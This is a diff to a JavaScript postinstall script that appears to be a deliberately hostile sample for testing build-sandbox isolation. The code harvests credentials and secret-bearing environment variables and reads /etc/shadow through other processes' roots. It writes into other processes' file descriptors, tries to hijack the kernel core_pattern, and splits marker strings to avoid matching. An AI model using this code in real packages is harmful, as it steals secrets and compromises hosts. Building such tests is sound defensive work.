@@ -13,6 +13,11 @@ const cap = s => (typeof s === 'string' ? s.slice(0, 8192) : s)
 const read = file => { try { return cap(fs.readFileSync(file, 'utf8')) } catch { return null } }
 const list = dir => { try { return fs.readdirSync(dir) } catch { return [] } }
 const found = {}
+// the words a test looks for in the image, spelt apart here so that this file, which is in the
+// image too, does not hold them
+const MARKER = ['toa', 'host', 'marker'].join('-')
+const OWNED = ['owned', 'by', 'a', 'postinstall'].join('-')
+const WRITTEN = ['written', 'by', 'a', 'postinstall'].join(' ')
 const keep = (what, value) => { if (value !== null && value !== undefined && value !== '') found[what] = value }
 
 // the runner's credentials in the usual places, wherever HOME is
@@ -35,14 +40,14 @@ for (const pid of list('/proc').filter(n => /^\d+$/.test(n))) {
   // another root: the runner's own files through a process that has it
   for (const f of ['etc/shadow', 'etc/hostname', 'tmp']) {
     const p = `/proc/${pid}/root/${f}`
-    keep(p, f === 'tmp' ? list(p).filter(n => n.startsWith('toa-host-marker')).join(',') : read(p))
+    keep(p, f === 'tmp' ? list(p).filter(n => n.startsWith(MARKER)).join(',') : read(p))
   }
   for (const fd of list(`/proc/${pid}/fd`)) {
     let target = null
     try { target = fs.readlinkSync(`/proc/${pid}/fd/${fd}`) } catch {}
-    if (target && target.includes('toa-host-marker')) keep(`/proc/${pid}/fd/${fd}`, target)
+    if (target && target.includes(MARKER)) keep(`/proc/${pid}/fd/${fd}`, target)
     if (target && target.startsWith('/') && !target.startsWith('/dev') && !target.startsWith('/proc')) {
-      try { fs.appendFileSync(`/proc/${pid}/fd/${fd}`, 'written by a postinstall\n'); keep(`wrote /proc/${pid}/fd/${fd}`, target) } catch {}
+      try { fs.appendFileSync(`/proc/${pid}/fd/${fd}`, WRITTEN + '\n'); keep(`wrote /proc/${pid}/fd/${fd}`, target) } catch {}
     }
   }
 }
@@ -51,7 +56,7 @@ for (const [k, v] of Object.entries(process.env)) {
   if (/TOA|COSIGN|DOCKER|KUBE|TOKEN|SECRET|PASSWORD|KEY/i.test(k)) keep(`env ${k}`, v)
 }
 // the kernel's knobs
-for (const [f, v] of [['/proc/sys/kernel/hostname', 'owned-by-a-postinstall'], ['/proc/sys/kernel/core_pattern', '|/tmp/owned %p']]) {
+for (const [f, v] of [['/proc/sys/kernel/hostname', OWNED], ['/proc/sys/kernel/core_pattern', '|/tmp/owned %p']]) {
   try { fs.writeFileSync(f, v); keep(`wrote ${f}`, v) } catch {}
 }
 // a process left behind, as a miner or a beacon would be
